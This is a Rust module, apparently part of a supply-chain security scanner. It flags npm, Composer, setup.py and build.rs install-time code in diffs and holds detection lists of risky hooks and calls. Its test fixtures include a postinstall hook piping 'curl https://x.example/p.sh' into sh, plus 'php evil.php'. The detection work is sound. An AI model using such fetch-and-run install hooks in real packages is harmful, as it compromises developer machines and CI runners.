//! Install-time code: npm lifecycle scripts (`preinstall`, `install`, `postinstall`, `prepare`,
//! …) and Composer event scripts added or changed in a manifest, `setup.py` custom commands or
//! process/network calls, and new or changed Cargo build scripts (`build.rs`).
//!
//! Why it matters: this code runs on every developer machine and CI runner that installs or
//! builds the project, before anyone runs the tests. "93.9% of malicious packages had at least
//! one install script" (Zahan et al. 2022, via Socket); `setup.py` and `build.rs` are the
//! Python and Rust equivalents.
//!
//! Source: npm docs "scripts" (lifecycle order), Composer docs "Scripts" (event names),
//! setuptools `cmdclass`, Cargo book "Build Scripts".

use crate::engine::diff::{self, Hunk, LineKind};
use crate::signal::{Finding, FindingKind, Severity};

use super::model::finding;
use super::view::FileView;

/// Script keys that run on install (npm lifecycle, Composer events).
pub const INSTALL_HOOKS: &[&str] = &[
    "preinstall",
    "install",
    "postinstall",
    "prepare",
    "preprepare",
    "postprepare",
    "prepublish",
    "pre-install-cmd",
    "post-install-cmd",
    "pre-update-cmd",
    "post-update-cmd",
    "post-autoload-dump",
    "post-root-package-install",
    "post-create-project-cmd",
];

/// Calls in `setup.py` that run commands or reach the network at install time.
const SETUP_EXECUTION: &[&str] = &[
    "cmdclass",
    "subprocess",
    "os.system",
    "os.popen",
    "urlopen",
    "urllib.request",
    "requests.get",
    "exec(",
];

const MAX_SCRIPT_CHARS: usize = 80;

pub fn findings(view: &FileView) -> Vec<Finding> {
    let basename = view.lower_name();
    let path = view.path();
    if basename == "build.rs" {
        return match view.facts.status.as_str() {
            "added" => vec![finding(
                FindingKind::InstallScript,
                path,
                "adds a Cargo build script (build.rs), which runs arbitrary code at build time"
                    .into(),
                Severity::High,
            )],
            "removed" => vec![],
            _ => vec![finding(
                FindingKind::InstallScript,
                path,
                "changes the Cargo build script (build.rs), which runs at build time".into(),
                Severity::Medium,
            )],
        };
    }
    // Only three manifests can declare install-time code: decide before parsing the patch.
    let read: fn(&diff::Patch, &str) -> Vec<Finding> = match basename {
        "package.json" | "composer.json" => lifecycle_scripts,
        "setup.py" => setup_py,
        _ => return Vec::new(),
    };
    match view.file.patch {
        Some(_) => read(view.patch(), path),
        None => Vec::new(),
    }
}

fn lifecycle_scripts(patch: &diff::Patch, path: &str) -> Vec<Finding> {
    let mut old_hooks = Vec::new();
    let mut new_hooks = Vec::new();
    for hunk in &patch.hunks {
        old_hooks.extend(changed_hooks(hunk, LineKind::Removed));
        new_hooks.extend(changed_hooks(hunk, LineKind::Added));
    }
    new_hooks
        .into_iter()
        .map(|(hook, command)| {
            let verb = if old_hooks.iter().any(|(old, _)| *old == hook) {
                "changes"
            } else {
                "adds"
            };
            finding(
                FindingKind::InstallScript,
                path,
                format!(
                    "{verb} the {hook} script: {}",
                    crate::text::clip(&command, MAX_SCRIPT_CHARS)
                ),
                Severity::High,
            )
        })
        .collect()
}

/// `(hook, command)` for install hooks on lines of `kind` inside the `"scripts"` object.
fn changed_hooks(hunk: &Hunk, kind: LineKind) -> Vec<(String, String)> {
    let mut found = Vec::new();
    let mut inside = hunk.section.contains("\"scripts\"");
    let mut unknown = !inside;
    for line in &hunk.lines {
        if line.kind != LineKind::Context && line.kind != kind {
            continue;
        }
        let text = line.text.trim();
        if text.starts_with("\"scripts\"") && text.contains('{') {
            inside = !text.contains('}');
            unknown = false;
            continue;
        }
        if text.starts_with('}') {
            inside = false;
            unknown = false;
            continue;
        }
        if text.ends_with('{') {
            unknown = false;
        }
        if line.kind != kind || !(inside || unknown) {
            continue;
        }
        let strings = super::model::quoted_strings(text);
        if let (Some(key), Some(command)) = (strings.first(), strings.get(1)) {
            if INSTALL_HOOKS.contains(key) {
                found.push(((*key).to_string(), (*command).to_string()));
            }
        }
    }
    found
}

fn setup_py(patch: &diff::Patch, path: &str) -> Vec<Finding> {
    let mut calls: Vec<&str> = Vec::new();
    for line in patch.added() {
        let code = line.split('#').next().unwrap_or(line);
        for call in SETUP_EXECUTION {
            if code.contains(call) && !calls.contains(call) {
                calls.push(call);
            }
        }
    }
    if calls.is_empty() {
        return Vec::new();
    }
    vec![finding(
        FindingKind::InstallScript,
        path,
        format!(
            "setup.py adds code that runs at install time ({})",
            calls.join(", ")
        ),
        Severity::High,
    )]
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::bundle::ChangedFile;
    use crate::engine::files::classify_file;

    fn run(path: &str, status: &str, patch: Option<&str>) -> Vec<Finding> {
        let file = ChangedFile {
            filename: path.into(),
            status: status.into(),
            additions: 1,
            deletions: 0,
            patch: patch.map(str::to_string),
            ..Default::default()
        };
        findings(&FileView::new(&file, &classify_file(&file)))
    }

    #[test]
    fn new_and_changed_npm_lifecycle_scripts_are_high() {
        let found = run(
            "package.json",
            "modified",
            Some("@@ -3,6 +3,7 @@\n   \"scripts\": {\n-    \"prepare\": \"husky\",\n+    \"prepare\": \"husky && node fetch.js\",\n+    \"postinstall\": \"curl https://x.example/p.sh | sh\",\n     \"test\": \"jest\"\n   },"),
        );
        assert_eq!(found.len(), 2);
        assert!(found[0].detail.starts_with("changes the prepare script"));
        assert!(found[1]
            .detail
            .starts_with("adds the postinstall script: curl"));
        assert!(found
            .iter()
            .all(|finding| finding.severity == Severity::High));
    }

    #[test]
    fn ordinary_scripts_and_dependency_entries_do_not_count() {
        assert!(run("package.json", "modified", Some("@@ -3,3 +3,3 @@\n   \"scripts\": {\n-    \"test\": \"jest\"\n+    \"test\": \"vitest\"\n   },")).is_empty());
        assert!(run(
            "package.json",
            "modified",
            Some("@@ -3,3 +3,3 @@\n   \"dependencies\": {\n+    \"install\": \"^0.13.0\"\n   },")
        )
        .is_empty());
    }

    #[test]
    fn composer_events_setup_py_and_build_rs() {
        assert_eq!(run("composer.json", "modified", Some("@@ -1,2 +1,3 @@\n   \"scripts\": {\n+    \"post-install-cmd\": \"php evil.php\"\n   }")).len(), 1);
        let setup = run(
            "setup.py",
            "modified",
            Some("@@ -1,2 +1,3 @@\n setup(\n+    cmdclass={'install': PostInstall},\n )"),
        );
        assert!(setup[0].detail.contains("cmdclass"));
        assert_eq!(run("build.rs", "added", None)[0].severity, Severity::High);
        assert_eq!(
            run("crates/x/build.rs", "modified", None)[0].severity,
            Severity::Medium
        );
        assert!(run("build.rs", "removed", None).is_empty());
    }
}
